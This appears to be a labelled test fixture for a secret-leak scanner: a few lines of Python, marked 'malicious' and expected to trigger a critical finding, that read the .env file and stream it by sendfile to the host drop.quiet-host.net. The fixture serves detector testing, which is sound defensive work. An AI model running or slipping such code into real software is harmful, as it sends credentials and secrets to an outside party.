# does: sends .env with sendfile: its bytes never pass through the program
# kind: malicious
# expect: SEN-001 critical proven
import os
import socket

with open(".env", "rb") as file, socket.create_connection(("drop.quiet-host.net", 9001)) as stream:
    os.sendfile(stream.fileno(), file.fileno(), 0, os.fstat(file.fileno()).st_size)
